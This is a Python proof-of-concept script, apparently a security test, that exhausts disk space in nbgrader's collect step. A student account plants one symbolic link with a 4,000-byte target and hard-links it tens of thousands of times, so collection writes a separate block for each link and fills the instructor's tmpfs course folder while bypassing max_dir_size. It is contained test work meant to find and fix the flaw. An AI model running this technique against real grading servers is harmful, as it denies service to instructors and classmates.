"""a01: SafeCollect copies a link as a new link and counts nothing of it against max_dir_size (the budget counts bytes
read from files only). mallory's inbound folder holds her notebook plus one symbolic link (one per 60,000: ext4 caps links per inode at 65,000) with a 4,000-byte target,
hard-linked N times (linkat without AT_SYMLINK_FOLLOW links the link itself: each costs her a directory entry, not a
block). Collect writes N fresh links, each with its own 4 KiB block (tmpfs: a page) on the TA's side.
The course folder is a 300 MB tmpfs here so only it fills. aaron39u, zoe39u honest in the same exchange."""
from lib import *
A = "ps1_memory"; N = int(os.environ.get("N", "90000"))
add_accounts()
d = "/tmp/attack39-user-a01"
try:
    if os.path.ismount(d): subprocess.run(["umount", d])
    if os.path.exists(d): shutil.rmtree(d)
    os.makedirs(d); subprocess.run(["mount", "-t", "tmpfs", "-o", "size=" + os.environ.get("SIZE", "300m") + "", "tmpfs", d], check=True)
    shutil.copy(CLONE + "/nbgrader_config.py", d); shutil.copytree(CLONE + "/source", d + "/source"); shutil.copytree(CLONE + "/release", d + "/release")
    X, inbound = make_exchange("a01")
    chown(d); os.chmod(d, 0o700)
    honest_inbound(inbound, A)
    tmp = "/tmp/attack39-user-a01-m.ipynb"; nbformat.write(release_nb(A), tmp); os.chmod(tmp, 0o644)
    t = time.time()
    as_student(2392, f"""
import os, shutil
p = '{inbound}/mallory39u+{A}+2026-11-29 11:00:00.000000 UTC+r'; os.mkdir(p); os.chmod(p, 0o755)
shutil.copy('{tmp}', p + '/{A}.ipynb')
os.mkdir(p + '/l')
for i in range({N}):
    if i % 60000 == 0: src = p + '/l/%d' % i; os.symlink('x' * 4000, src); continue
    os.link(src, p + '/l/%d' % i, follow_symlinks=False)
""")
    print(f"mallory made 1 link + {N-1} hard links of it in {time.time()-t:.1f}s")
    os.system(f"du -sh --apparent-size {inbound}/mallory39u*; du -sh {inbound}/mallory39u*; df -h {d} | tail -1")
    r = collect(d, X, A)
    os.system(f"df -h {d} | tail -1; du -sh {d}/submitted/* 2>&1; ls {d}/submitted/*/{A}/ 2>&1 | head; find {d}/submitted -type l | wc -l")
    print("nbgrader max_dir_size (kB):", 100000)
    if os.path.exists(f"{d}/submitted"):
        grade(d, A)
        scores(d)
        rep = report(d)
finally:
    time.sleep(3); subprocess.run(["umount", d]); shutil.rmtree(d, ignore_errors=True)
    shutil.rmtree("/tmp/attack39-user-a01-exchange", ignore_errors=True)
    del_accounts()
